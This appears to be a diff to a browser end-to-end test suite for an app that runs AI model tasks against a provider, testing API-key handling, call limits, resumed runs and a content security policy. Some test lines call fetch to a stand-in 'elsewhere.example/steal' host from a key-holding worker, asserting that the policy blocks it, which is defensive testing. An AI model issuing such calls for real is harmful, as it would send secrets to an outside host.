@@ -72,9 +72,8 @@ describe("the task is done by a model, in both dialects", () => {
       const restart = own.requests.find(({ body }, i) => i > 0 && own.requests[i - 1] === summaries[0]);
       assert.match(JSON.stringify(restart.body.messages), /Race condition in `updateStatus`/, "NOTES.md is read back at the restart");
 
-      const header = dialect === "anthropic" ? "x-api-key" : "authorization";
       for (const { headers, text, url } of own.requests) {
-        assert.equal(headers[header], dialect === "anthropic" ? canary : `Bearer ${canary}`);
+        assert.equal(headers.authorization, `Bearer ${canary}`);
         assert.ok(!text.includes(canary) && !url.includes(canary));
         assert.equal(Object.values(headers).filter((value) => String(value).includes(canary)).length, 1);
       }
@@ -188,7 +187,7 @@ test("the run is stopped at any moment, and goes on from where it was", async ()
   await own.close();
 });
 
-test("each call can wait for a word, and none goes over the limits", async () => {
+test("each call can wait for a word, and none goes over the limit of calls", async () => {
   const own = await startProvider();
   const page = await session.open();
   await setUp(page, { base: own.url });
@@ -200,6 +199,54 @@ test("each call can wait for a word, and none goes over the limits", async () =>
   await page.waitForFunction(() => document.querySelector('[data-testid="live-run"]')?.textContent.includes("2"));
   assert.equal(await reaches(page, "asking"), "asking");
   assert.equal(own.requests.length, 1);
+  await page.getByTestId("live-setup").click();
+  await page.getByTestId("live-more").click();
+  await page.getByTestId("live-calls").fill("1");
+  await page.getByTestId("live-calls").blur();
+  await page.getByTestId("live-send").click();
+  assert.equal(await reaches(page, "capped"), "capped");
+  await page.getByTestId("live-calls").fill("many");
+  await page.getByTestId("live-calls").blur();
+  await page.locator('[data-key="live-bad-calls"]').waitFor();
+  assert.equal(await page.getByTestId("live-calls").inputValue(), "1", "what cannot be leaves the limit as it was");
+  await page.getByTestId("live-calls").fill("40");
+  await page.getByTestId("live-calls").blur();
+  await page.getByTestId("live-asks").uncheck();
+  await page.getByTestId("live-again").click();
+  assert.equal(await reaches(page, "over"), "over");
+  await page.end();
+  await own.close();
+});
+
+test("a key stays with its address, and a run goes on with another key from where it was", async () => {
+  const own = await startProvider();
+  const page = await session.open();
+  await setUp(page, { base: own.url, key: "sk-wrong-wrong-wrong" });
+  own.pauses.push(100);
+  own.faults.push({ status: 401, body: { error: { type: "authentication_error", message: "no" } } });
+  await page.getByTestId("live-start").click();
+  await page.locator('[data-testid="live-failure"][data-class="auth"]').waitFor();
+  await page.getByTestId("live-setup").click();
+  await page.getByTestId("live-key-forget").click();
+  assert.equal(await page.getByTestId("live-again").isDisabled(), true);
+  await page.getByTestId("live-key").fill(canary);
+  await page.getByTestId("live-base").fill(`${own.url}/`);
+  assert.equal(await page.getByTestId("live-key").inputValue(), "", "it is not taken along to another address");
+  await page.getByTestId("live-key").fill(canary);
+  await page.getByTestId("live-resume").click();
+  await page.getByTestId("live-coming").getByText("First I look").waitFor();
+  await page.getByTestId("live-stop").click();
+  assert.equal(await reaches(page, "stopped"), "stopped");
+  assert.deepEqual(own.requests.map(({ headers }) => headers.authorization), ["Bearer sk-wrong-wrong-wrong", `Bearer ${canary}`]);
+  // The page is loaded anew in the middle of the run: what was written is written again.
+  own.faults.length = 0;
+  await page.getByTestId("live-again").click();
+  await page.waitForFunction(() => JSON.parse(sessionStorage.getItem("secondwind.recordings"))[0].recording.answers.length > 18);
+  await page.reload();
+  await setUp(page, { base: own.url });
+  await page.getByTestId("live-resume").click();
+  assert.equal(await reaches(page, "over", "failed"), "over");
+  await page.locator('[data-testid="live-verdict"][data-passed="true"]').waitFor({ timeout: 30_000 });
   await page.end();
   await own.close();
 });
@@ -218,20 +265,19 @@ test("the policy of the page lets no other host be reached", async () => {
     return told;
   });
   assert.equal(blocked, "connect-src");
-  // The worker that holds a key is held by the same policy.
-  const fromWorker = await page.evaluate(() => {
-    const code = 'fetch("https://elsewhere.example/steal").then(() => postMessage("reached"), () => postMessage("blocked"))';
-    const policy = { createScriptURL: (url) => url };
-    const url = URL.createObjectURL(new Blob([code]));
-    try {
-      const worker = new Worker(globalThis.trustedTypes.createPolicy("other", policy).createScriptURL(url));
-      return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
-    } catch {
-      return "refused";
-    }
-  });
-  assert.notEqual(fromWorker, "reached");
+  // The worker that holds the key is held by the same policy: the server is there, and not listed.
+  const own = await startProvider();
+  own.faults.push({ hang: true });
+  await page.getByTestId("live-base").fill(own.url);
+  await page.getByTestId("live-key").fill(canary);
+  await page.getByTestId("live-start").click();
+  await page.locator('[data-testid="live-run"][data-state="calling"]').waitFor();
+  const reach = (url) => page.workers()[0].evaluate((url) => fetch(url, { method: "POST", body: "{}" }).then(() => "reached", () => "blocked"), url);
+  assert.equal(await reach(`${own.url}/listed`), "reached");
+  assert.equal(await reach(own.url.replace("127.0.0.1", "127.0.0.2")), "blocked");
+  assert.equal(await reach("https://elsewhere.example/steal"), "blocked");
   await page.end();
+  await own.close();
 });
 
 describe("the live view stands in every width, theme and language", () => {
